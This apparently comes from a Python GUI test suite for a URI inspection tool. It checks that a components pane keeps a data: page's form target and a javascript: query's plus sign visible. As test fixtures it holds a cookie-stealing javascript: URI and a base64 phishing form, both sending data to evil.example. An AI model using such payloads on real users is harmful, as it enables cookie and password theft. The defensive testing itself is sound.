"""The Components pane never hides the dangerous part (issue 15 item 8): a data: page's
form target stays in the preview, and a javascript: query keeps its ``+``."""

from __future__ import annotations

import base64
from pathlib import Path

from PySide6.QtWidgets import QTreeWidgetItem
from pytestqt.qtbot import QtBot

from uriinspector.core.analysis import analyze
from uriinspector.gui.panes.components import COL_DECODED, COL_NAME, ComponentsPane

ACTION = "https://evil.example/steal"
PAGE = ("<html><head><style>" + "body{margin:0}" * 60 + f'</style></head><body><form action="'
        f'{ACTION}" method="post"><input name="pw" type="password"></form></body></html>')


def _pane(qtbot: QtBot, text: str) -> ComponentsPane:
    pane = ComponentsPane()
    qtbot.addWidget(pane)
    pane.resize(900, 600)
    pane.show_analysis(analyze(text))
    return pane


def _rows(pane: ComponentsPane) -> dict[str, QTreeWidgetItem]:
    view = pane.view
    out: dict[str, QTreeWidgetItem] = {}

    def walk(item: QTreeWidgetItem, prefix: str) -> None:
        key = prefix + item.text(COL_NAME).split("  ")[0]
        out[key] = item
        item.setExpanded(True)  # deferred children are made when a branch opens
        for i in range(item.childCount()):
            walk(item.child(i), key + "/")

    for i in range(view.topLevelItemCount()):
        walk(view.topLevelItem(i), "")
    return out


def test_javascript_query_keeps_its_plus(qtbot: QtBot) -> None:
    """RFC 3986 §2.1: only %XX is decoded; '+' is form encoding (web queries only)."""
    pane = _pane(qtbot, "javascript:location='//evil.example/?c='+document.cookie")
    rows = _rows(pane)
    assert rows["query/parameter 1"].text(COL_DECODED) == "c = '+document.cookie"
    assert "'+' is a plus sign" in pane.tooltip_text(rows["query/parameter 1"], COL_NAME)
    web = _rows(_pane(qtbot, "https://a.example/?q=a+b"))
    assert web["query/parameter 1"].text(COL_DECODED) == "q = a b"


def test_data_preview_shows_the_form_target(qtbot: QtBot, tmp_path: Path) -> None:
    uri = "data:text/html;base64," + base64.b64encode(PAGE.encode()).decode()
    pane = _pane(qtbot, uri)
    pane.show()
    qtbot.waitExposed(pane)
    rows = _rows(pane)
    details = next(k for k in rows if k.endswith(" details"))
    assert ACTION in rows[f"{details}/Text"].text(COL_DECODED)
    assert ACTION in rows[f"{details}/text preview"].text(COL_DECODED)
    assert rows[f"{details}/URLs inside/URL 1"].text(COL_DECODED) == ACTION
    assert rows[f"{details}/URLs inside"].text(COL_DECODED) == ACTION  # seen closed too
    pane.view.scrollToItem(rows[f"{details}/URLs inside/URL 1"])
    pane.grab().save(str(tmp_path / "data-preview.png"))
